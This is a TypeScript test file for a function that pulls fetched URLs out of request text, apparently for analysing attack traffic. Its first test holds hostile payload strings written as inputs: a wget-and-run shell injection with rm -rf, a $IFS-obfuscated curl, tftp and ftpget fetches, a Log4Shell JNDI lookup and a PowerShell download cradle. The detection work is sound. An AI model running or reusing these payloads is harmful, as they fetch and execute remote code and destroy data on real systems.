import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findDownloads } from './downloads.ts';

const urls = (text: string): string[] => findDownloads(text)?.urls ?? [];

test('addresses that a command would fetch are found in targets, headers and bodies', () => {
  assert.deepEqual(urls('/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/a.sh;sh+a.sh'), ['http://192.0.2.9/a.sh']);
  assert.deepEqual(urls('/x?c=wget%20192.0.2.9/a.sh%20-O-|sh'), ['http://192.0.2.9/a.sh']);
  assert.deepEqual(urls('cmd=curl$IFS-o$IFS$9x$IFShttp://a.example/b`'), ['http://a.example/b']);
  assert.deepEqual(urls('tftp -g -r mips 192.0.2.9; ftpget 192.0.2.8 arm7'), [
    'tftp://192.0.2.9/mips',
    'ftp://192.0.2.8/arm7',
  ]);
  assert.deepEqual(urls('$' + '{jndi:ldap://192.0.2.7:1389/Exploit}'), ['ldap://192.0.2.7:1389/Exploit']);
  assert.deepEqual(urls("(New-Object Net.WebClient).DownloadString('http://a.example/p.ps1')"), [
    'http://a.example/p.ps1',
  ]);
});

test('a client that names itself and a page that links are no commands', () => {
  assert.deepEqual(urls('curl/8.5.0'), []);
  assert.deepEqual(urls('Mozilla/5.0 (compatible; +http://a.example/bot)'), []);
  assert.deepEqual(urls('/?url=http://a.example/'), []);
});
